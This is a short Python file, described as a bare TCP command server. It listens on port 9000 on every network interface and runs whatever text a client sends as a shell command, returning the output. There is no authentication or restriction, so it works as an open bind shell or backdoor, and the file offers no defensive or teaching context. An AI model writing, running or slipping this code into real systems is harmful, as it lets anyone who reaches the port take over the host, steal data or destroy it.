"""A bare TCP command server."""

import socket
import subprocess


def serve(port: int = 9000) -> None:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("0.0.0.0", port))
    server.listen()
    while True:
        conn, _ = server.accept()
        command = conn.recv(4096).decode()
        output = subprocess.run(command, shell=True, capture_output=True).stdout
        conn.sendall(output)
        conn.close()
